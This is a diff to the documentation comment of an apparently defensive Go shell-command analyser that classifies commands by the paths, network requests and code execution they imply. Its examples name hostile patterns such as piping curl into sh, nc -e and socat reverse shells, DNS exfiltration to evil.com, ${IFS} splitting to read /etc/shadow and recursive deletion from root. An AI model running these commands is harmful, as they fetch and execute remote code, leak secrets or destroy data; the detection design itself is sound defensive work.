@@ -51,10 +51,27 @@ import (
 // arguments xargs and find -exec pass, which name what the producer lists:
 // both become Refs for the lister's roots, with Tree (so
 // `find / -name x | xargs rm -f` deletes "/" Tree and `cat $(ls)` reads
-// the working directory, Tree). A process substitution (<(...), >(...))
+// the working directory, Tree); inside the workspace, find's -name tests
+// narrow them to "ROOT/**/PATTERN" (Glob). A process substitution (<(...), >(...))
 // used as a file is a pipe, not a path: the commands inside carry their
-// own facts. A program name computed at run time, a line that does not
-// parse, or a limit reached gives an Unknown.
+// own facts. A program name computed at run time or given as a pattern,
+// code piped into a shell from a producer shellx cannot read, a line that
+// does not parse (or that the parser fails on), or a limit reached gives
+// an Unknown. ${IFS} between words splits them (cat${IFS}/etc/shadow).
+//
+// # Code run that the line does not hold (Facts.Execs)
+//
+// A shell or interpreter reading a pipe (curl URL | sh: Remote when a
+// network tool feeds it), a process or command substitution (bash
+// <(curl ...), eval "$(...)", source <(...)), a script or a tree a
+// network tool wrote earlier in the line (curl -o x.sh URL && sh x.sh,
+// git clone URL d && make -C d), a reverse shell (nc -e, socat EXEC:,
+// an interpreter payload that connects a socket and spawns a shell), and
+// packages installed from a host that is not the tool's registry (pip
+// --index-url, pip install git+URL, npm install URL) are Execs. What
+// tools run themselves is judged as their payload: go -exec/-toolexec,
+// git -c core.sshCommand and other program settings, vim -c '!cmd',
+// tmux send-keys, make -f /dev/stdin recipes, watch, flock, su -c.
 //
 // # Requests
 //
@@ -69,6 +86,8 @@ import (
 // are GET Requests to their registry (registry.npmjs.org, pypi.org,
 // proxy.golang.org, crates.io, the docker registry, deb.debian.org);
 // system package managers (apt, dnf, apk...) also write /usr, Tree.
+// A remote added earlier in the line (git remote add NAME URL) names its
+// host for git push NAME.
 // Data is set for bodies, uploads, standard input, computed URLs,
 // headers or names (dig $(cat x).evil.com), and Files names what a
 // request sends: @file arguments, files read by the commands feeding its
@@ -98,8 +117,12 @@ import (
 //     give only the inner command's Run, whose Via names the wrapper.
 //     docker run with --privileged, host namespaces or the docker socket
 //     gives an Unknown (the container reaches the whole host).
+//   - Commands run over ssh or inside a container (shellx Via "ssh HOST",
+//     "docker", "kubectl") give their Runs, Requests, Execs and Texts, not
+//     paths: those are another machine's.
 //   - Text a command writes to a file (a here-document or here-string fed
-//     to cat > f, tee f, dd of=f, crontab; echo/printf > f) is a Text with
+//     to cat > f, tee f, dd of=f, crontab; echo/printf > f, escapes
+//     decoded; the script of sed -i) is a Text with
 //     Source "content:" + the path written; other here-document bodies are
 //     Texts with Source "stdin". Interpreter string literals are Texts
 //     with their shellx Source ("python -c"), awk programs "awk".
